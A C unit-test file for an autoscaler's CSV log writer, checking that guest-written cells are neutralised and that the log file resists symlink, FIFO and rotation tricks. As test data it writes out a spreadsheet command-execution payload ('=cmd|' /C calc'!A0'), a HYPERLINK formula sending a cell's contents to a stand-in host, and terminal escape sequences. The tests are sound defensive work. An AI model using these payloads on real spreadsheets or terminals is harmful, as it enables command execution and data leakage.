// SPDX-License-Identifier: MIT
/*
 * Host tests of the autoscaler's CSV (tools/autoscale_csv.c): cells a
 * guest writes (data/smpalt/mode) cannot start a formula or carry a
 * control character, quoting per RFC 4180, and the file: created 0640,
 * never through a symlink, not inherited by xl, reopened after rotation.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "autoscale_csv.h"

/* 2026-12-03T13:18:45.123Z */
#define SOME_UNIX_MS 1796303925123ULL
#define FILE_BUF 4096

static char *cell(const char *value)
{
	struct as_text t = AS_TEXT_INIT;
	char *s;

	as_csv_cell(&t, value);
	s = as_text_take(&t, NULL);
	assert_non_null(s);
	return s;
}

static void expect_cell(const char *value, const char *expected)
{
	char *s = cell(value);

	assert_string_equal(s, expected);
	free(s);
}

static void plain_cell_is_written_as_is(void **state)
{
	(void)state;
	expect_cell("smp", "smp");
	expect_cell("", "");
	expect_cell("web-1 (eu)", "web-1 (eu)");
	/* UTF-8 passes: "caf\u00e9", "\u65e5" */
	expect_cell("caf\xc3\xa9 \xe6\x97\xa5", "caf\xc3\xa9 \xe6\x97\xa5");
}

static void formula_start_gets_a_single_quote_and_quoting(void **state)
{
	(void)state;
	expect_cell(
		"=HYPERLINK(\"http://x.example/?\"&A1,\"up\")",
		"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"up\"\")\"");
	expect_cell("+1", "\"'+1\"");
	expect_cell("-1+2", "\"'-1+2\"");
	expect_cell("@SUM(A1)", "\"'@SUM(A1)\"");
	/* TAB and CR as first character: quoted, and escaped by step 2. */
	expect_cell("\t=1", "\"'\\x09=1\"");
	expect_cell("\r=1", "\"'\\x0d=1\"");
	/* Only the first character counts. */
	expect_cell("a=1", "a=1");
}

static void control_characters_are_escaped(void **state)
{
	(void)state;
	/* A terminal escape: ESC [ 2 J (clear screen), and a title set. */
	expect_cell("\x1b[2Jup", "\\x1b[2Jup");
	expect_cell("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07");
	expect_cell("up\nsmp\r\n", "up\\x0asmp\\x0d\\x0a");
	expect_cell("a\x7f", "a\\x7f");
	/* C1 control U+009B (CSI) as UTF-8, and raw 0x9b (not UTF-8). */
	expect_cell("a\xc2\x9b"
		    "2J",
		    "a\\xc2\\x9b2J");
	expect_cell("a\x9b"
		    "2J",
		    "a\\x9b2J");
	/* Overlong '/', a lone continuation byte, a truncated sequence. */
	expect_cell("\xc0\xaf", "\\xc0\\xaf");
	expect_cell("\x80", "\\x80");
	expect_cell("x\xe6\x97", "x\\xe6\\x97");
	/* The escape character itself, so that escapes are unambiguous. */
	expect_cell("a\\x1b", "a\\\\x1b");
}

static void comma_and_quote_are_quoted(void **state)
{
	(void)state;
	expect_cell("up,smp", "\"up,smp\"");
	expect_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
	expect_cell("\"", "\"\"\"\"");
}

static const struct as_csv_row hostile_row = {
	.elapsed_ms = 3500,
	.unix_ms = SOME_UNIX_MS,
	.name = "web,1",
	.domid = 7,
	.has_load = true,
	.has_guest = true,
	.load = 250,
	.vcpus = 4,
	.guest = 250,
	.mode = "=cmd|' /C calc'!A0\x1b[31m\n",
	.signal = "guest",
};

static void row_escapes_every_text_cell(void **state)
{
	char *row;

	(void)state;
	row = as_csv_format(&hostile_row);
	assert_non_null(row);
	assert_string_equal(row, "3.500,\"web,1\",250,4,"
				 "\"'=cmd|' /C calc'!A0\\x1b[31m\\x0a\",,"
				 "1796303925.123,7,guest,250,,\n");
	/* One line: the guest's newline did not end the row early. */
	assert_ptr_equal(strchr(row, '\n'), row + strlen(row) - 1);
	free(row);
}

static void row_has_no_length_limit(void **state)
{
	struct as_csv_row r = hostile_row;
	char name[8192], *row;

	(void)state;
	memset(name, 'A', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	r.name = name;
	r.mode = "up";
	row = as_csv_format(&r);
	assert_non_null(row);
	assert_memory_equal(row, "3.500,", 6);
	assert_memory_equal(row + 6, name, sizeof(name) - 1);
	assert_string_equal(row + 6 + sizeof(name) - 1,
			    ",250,4,up,,1796303925.123,7,guest,250,,\n");
	free(row);
}

/*
 * vcpus is what dom0 set; the guest's own word on its online vCPUs has a
 * column of its own: a guest writing 64 cannot make the audit trail say
 * it runs 64.
 */
static void vcpus_is_dom0s_count_and_the_guests_claim_is_apart(void **state)
{
	struct as_csv_row r = hostile_row;
	char *row;

	(void)state;
	assert_string_equal(AS_CSV_HEADER,
			    "time_s,domain,load,vcpus,mode,throughput,"
			    "unix_time,domid,signal,guest_load,xen_load,"
			    "guest_online");
	r.mode = "up";
	r.vcpus = 1;
	r.has_guest_online = true;
	r.guest_online = 64;
	row = as_csv_format(&r);
	assert_non_null(row);
	assert_string_equal(row, "3.500,\"web,1\",250,1,up,,1796303925.123,"
				 "7,guest,250,,64\n");
	free(row);
	/* No data/smpalt/online: the column is empty, vcpus is the same. */
	r.has_guest_online = false;
	row = as_csv_format(&r);
	assert_non_null(row);
	assert_string_equal(row, "3.500,\"web,1\",250,1,up,,1796303925.123,"
				 "7,guest,250,,\n");
	free(row);
}

/* A fresh directory for one test's files. */
static int make_dir(void **state)
{
	char *dir = strdup("/tmp/autoscale_csv_test.XXXXXX");

	if (!dir || !mkdtemp(dir))
		return -1;
	*state = dir;
	return 0;
}

static int remove_dir(void **state)
{
	char cmd[PATH_MAX + 16];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", (char *)*state);
	free(*state);
	return system(cmd) == 0 ? 0 : -1;
}

static void path_in(char *buf, void **state, const char *name)
{
	snprintf(buf, PATH_MAX, "%s/%s", (char *)*state, name);
}

static size_t read_file(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	assert_true(fd >= 0);
	n = read(fd, buf, len - 1);
	assert_true(n >= 0);
	buf[n] = '\0';
	close(fd);
	return (size_t)n;
}

static void open_creates_0640_with_header_cloexec_append(void **state)
{
	char path[PATH_MAX], buf[FILE_BUF];
	struct as_csv_file f;
	struct stat st;
	mode_t old = umask(022);

	path_in(path, state, "a.csv");
	assert_int_equal(as_csv_open(&f, path), 0);
	umask(old);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0640);
	assert_int_equal(fcntl(f.fd, F_GETFD) & FD_CLOEXEC, FD_CLOEXEC);
	assert_int_equal(fcntl(f.fd, F_GETFL) & (O_APPEND | O_NONBLOCK),
			 O_APPEND);
	assert_int_equal(as_csv_write(&f, "1\n", 2), 0);
	as_csv_close(&f);
	read_file(path, buf, sizeof(buf));
	assert_string_equal(buf, AS_CSV_HEADER "\n1\n");
}

static void open_appends_without_second_header(void **state)
{
	char path[PATH_MAX], buf[FILE_BUF];
	struct as_csv_file f;

	path_in(path, state, "a.csv");
	assert_int_equal(as_csv_open(&f, path), 0);
	assert_int_equal(as_csv_write(&f, "1\n", 2), 0);
	as_csv_close(&f);
	assert_int_equal(as_csv_open(&f, path), 0);
	assert_int_equal(as_csv_write(&f, "2\n", 2), 0);
	as_csv_close(&f);
	read_file(path, buf, sizeof(buf));
	assert_string_equal(buf, AS_CSV_HEADER "\n1\n2\n");
}

static void open_refuses_a_symlink(void **state)
{
	char path[PATH_MAX], target[PATH_MAX], buf[FILE_BUF];
	struct as_csv_file f;

	path_in(target, state, "victim");
	path_in(path, state, "a.csv");
	assert_int_equal(symlink(target, path), 0);
	assert_int_equal(as_csv_open(&f, path), -ELOOP);
	assert_int_equal(f.fd, -1);
	/* Nothing was created or written through the link. */
	assert_int_equal(access(target, F_OK), -1);
	/* An existing target is not touched either. */
	assert_int_equal(
		close(open(target, O_WRONLY | O_CREAT | O_CLOEXEC, 0600)), 0);
	assert_int_equal(as_csv_open(&f, path), -ELOOP);
	assert_int_equal(read_file(target, buf, sizeof(buf)), 0);
}

static void open_refuses_a_fifo_without_blocking(void **state)
{
	char path[PATH_MAX];
	struct as_csv_file f;
	int rd;

	path_in(path, state, "a.csv");
	assert_int_equal(mkfifo(path, 0600), 0);
	/* A reader, so that opening for writing would otherwise succeed. */
	rd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	assert_true(rd >= 0);
	assert_int_equal(as_csv_open(&f, path), -EINVAL);
	close(rd);
	/* Without a reader: still refused, and no hang (O_NONBLOCK). */
	assert_int_equal(as_csv_open(&f, path), -ENXIO);
}

static void reopen_after_rotation_starts_a_new_file(void **state)
{
	char path[PATH_MAX], moved[PATH_MAX], buf[FILE_BUF];
	struct as_csv_file f;

	path_in(path, state, "a.csv");
	path_in(moved, state, "a.csv.1");
	assert_int_equal(as_csv_open(&f, path), 0);
	assert_int_equal(as_csv_write(&f, "1\n", 2), 0);
	/* logrotate moves it away, then SIGHUP. */
	assert_int_equal(rename(path, moved), 0);
	assert_int_equal(as_csv_write(&f, "2\n", 2), 0);
	assert_int_equal(as_csv_reopen(&f), 0);
	assert_int_equal(as_csv_write(&f, "3\n", 2), 0);
	as_csv_close(&f);
	read_file(moved, buf, sizeof(buf));
	assert_string_equal(buf, AS_CSV_HEADER "\n1\n2\n");
	read_file(path, buf, sizeof(buf));
	assert_string_equal(buf, AS_CSV_HEADER "\n3\n");
}

static void failed_reopen_keeps_the_old_file(void **state)
{
	char path[PATH_MAX], moved[PATH_MAX], buf[FILE_BUF];
	struct as_csv_file f;

	path_in(path, state, "a.csv");
	path_in(moved, state, "a.csv.1");
	assert_int_equal(as_csv_open(&f, path), 0);
	assert_int_equal(rename(path, moved), 0);
	/* Someone put a symlink where the new file would go. */
	assert_int_equal(symlink("/etc/passwd", path), 0);
	assert_int_equal(as_csv_reopen(&f), -ELOOP);
	assert_int_equal(as_csv_write(&f, "2\n", 2), 0);
	as_csv_close(&f);
	read_file(moved, buf, sizeof(buf));
	assert_string_equal(buf, AS_CSV_HEADER "\n2\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_cell_is_written_as_is),
		cmocka_unit_test(formula_start_gets_a_single_quote_and_quoting),
		cmocka_unit_test(control_characters_are_escaped),
		cmocka_unit_test(comma_and_quote_are_quoted),
		cmocka_unit_test(row_escapes_every_text_cell),
		cmocka_unit_test(row_has_no_length_limit),
		cmocka_unit_test(
			vcpus_is_dom0s_count_and_the_guests_claim_is_apart),
		cmocka_unit_test_setup_teardown(
			open_creates_0640_with_header_cloexec_append, make_dir,
			remove_dir),
		cmocka_unit_test_setup_teardown(
			open_appends_without_second_header, make_dir,
			remove_dir),
		cmocka_unit_test_setup_teardown(open_refuses_a_symlink,
						make_dir, remove_dir),
		cmocka_unit_test_setup_teardown(
			open_refuses_a_fifo_without_blocking, make_dir,
			remove_dir),
		cmocka_unit_test_setup_teardown(
			reopen_after_rotation_starts_a_new_file, make_dir,
			remove_dir),
		cmocka_unit_test_setup_teardown(
			failed_reopen_keeps_the_old_file, make_dir, remove_dir),
	};

	return cmocka_run_group_tests_name("autoscale_csv", tests, NULL, NULL);
}
